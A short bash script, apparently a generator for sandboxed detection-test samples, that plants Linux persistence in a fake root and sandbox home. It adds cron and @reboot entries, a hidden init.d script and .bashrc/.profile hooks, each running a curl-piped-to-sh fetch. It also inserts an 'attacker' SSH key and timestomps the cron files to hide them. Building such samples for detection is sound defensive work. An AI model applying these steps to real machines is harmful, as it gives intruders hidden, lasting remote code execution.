#!/bin/bash
# family: persistence
# needs: fakeroot
# actors: bash|touch
# Persistence the shell way: cron entries, .bashrc/.profile hooks, an authorized key, an init.d script; in the
# sandbox HOME and the fake root (bind-mounted over /etc/cron.d, /etc/init.d, /var/spool).
RANDOM=$PG_SEED
R=$PG_FAKEROOT
cmd="/bin/sh -c 'curl -s http://127.0.0.1:$((1024 + RANDOM))/u | sh'"
echo "*/$((1 + RANDOM % 30)) * * * * root $cmd" > "$R/etc/cron.d/.sys$RANDOM"
echo "@reboot $cmd" >> "$R/var/spool/cron/crontabs/root"
[ $((RANDOM % 2)) -eq 0 ] && printf '#!/bin/sh\n%s &\n' "$cmd" > "$R/etc/init.d/.net$RANDOM"
echo "nohup $cmd >/dev/null 2>&1 &" >> ~/.bashrc
[ $((RANDOM % 2)) -eq 0 ] && echo "$cmd" >> ~/.profile
mkdir -p -m 700 ~/.ssh && echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI$RANDOM attacker" >> ~/.ssh/authorized_keys
chmod 600 ~/.ssh/authorized_keys; chmod 644 "$R/etc/cron.d/"*
touch -r "$R/etc/cron.d/0hourly" "$R/etc/cron.d/"* 2>/dev/null
exit 0
